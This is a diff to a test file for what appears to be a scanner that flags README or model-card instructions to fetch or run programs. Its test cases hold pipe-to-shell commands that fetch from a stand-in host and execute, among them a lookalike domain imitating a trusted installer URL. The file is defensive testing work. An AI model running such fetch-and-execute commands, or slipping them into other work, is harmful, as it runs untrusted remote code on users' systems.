@@ -64,11 +64,31 @@ def test_an_ordinary_model_card_is_silent(tmp_path: Path) -> None:
         ("".join(f"./{number}.sh\n" for number in range(50)) + "./setup.sh", "medium"),
         ("./setup.sh", "medium"),
         ("start loader.bat", "medium"),
+        ("python3 -m package.tool --fast", "medium"),
+        ("python package", "medium"),
+        ("python3 program", "medium"),
+        ("bash setup", "medium"),
+        ("sudo sh -x ./setup", "medium"),
+        ("node --trace server", "medium"),
+        ("pip install ./package", "medium"),
+        ("pip install --user package/", "medium"),
+        ("pip install ./tool-1.0.tar.gz", "medium"),
+        ("curl -s https://x.example/a | python3 -", "medium"),
+        ("curl -s https://x.example/a | bash -c 'json.load'", "medium"),
+        ("curl -s https://x.example/a | python3.11 -c 'import os, json; os.system(json.load(x))'", "medium"),
+        ("curl -fsSL https://ollama.com/install.sh | sh\ncurl https://x.example/a | sh", "medium"),
+        ("curl -fsSL https://x.example/a https://ollama.com/install.sh | sh", "medium"),
+        ("curl -fsSL https://ollama.com/install.sh.x.example/a | sh", "medium"),
+        ("curl -fsSL https://ollama.com/install.sh | sh", "low"),
+        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "low"),
+        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "low"),
     ],
 )
 def test_commands_that_fetch_or_run_a_program_are_found(tmp_path: Path, command: str, severity: str) -> None:
     files = {"README.md": f"# Use\n```\n{command}\n```\n", "setup.sh": "echo\n", "loader.bat": "echo\n"}
     files |= {"setup.py": "import os\nos.system('x')\n"}
+    files |= dict.fromkeys(("program", "package/__main__.py", "package/tool.py", "package/setup.py"), files["setup.py"])
+    files |= {"setup": "echo\n", "server": "x()\n", "tool-1.0.tar.gz": "x"}
     files |= {"loader.py": "import subprocess\ndef main(): subprocess.run(['id'])\n", "plain.py": "x = 1\n"}
     assert ("AIV507", severity, "README.md") in look(tmp_path, files)
 
@@ -83,10 +103,29 @@ def test_a_command_on_a_file_that_is_not_there_is_silent(tmp_path: Path) -> None
         "wget https://x.example/cat.jpg\npython demo.py --image cat.jpg",
         "curl https://x.example/v1/chat -o answer.json\ncat answer.json",
         "wget https://x.example/model.gguf\n./llama-cli -m model.gguf",
+        "curl http://localhost:8000/v1/models | python3 -m json.tool",
+        "curl -s http://localhost:8000/v1/chat | python3.11 -c 'import json, sys; print(json.load(sys.stdin))'",
     ],
 )
 def test_what_is_fetched_and_only_read_is_silent(tmp_path: Path, command: str) -> None:
     assert look(tmp_path, {"README.md": command}) == []
+
+
+def test_the_language_of_a_listing_and_prose_ask_for_nothing(tmp_path: Path) -> None:
+    card = "```python\nmodel = load()\n```\n```bash\ncode\n```\nRun the python code of the python model.\n"
+    files = {"README.md": card, "model.py": "import os\n", "code.py": "import os\n"}
+    assert not [item for item in look(tmp_path, files) if item[0] == "AIV507"]
+
+
+@pytest.mark.parametrize("name", ["README.md", "notes.rst", "README", "a.ipynb"])
+def test_a_long_text_is_searched_and_a_longer_one_said_to_be_too_long(tmp_path: Path, name: str) -> None:
+    command = "curl https://x.example/a | sh\n"
+    front = "pad\n" * 400_000
+    text = notebook(front + "!" + command) if name.endswith(".ipynb") else front + command
+    assert len(text) > 1 << 20
+    assert ("AIV507", "medium", name) in look(tmp_path / "long", {name: text})
+    (found,) = findings(write(tmp_path / "longer", {name: text + " " * (16 << 20)}))
+    assert (found.rule, "was not searched" in found.message) == ("AIV507", True)
 
 
 def notebook(*cells: str) -> str:
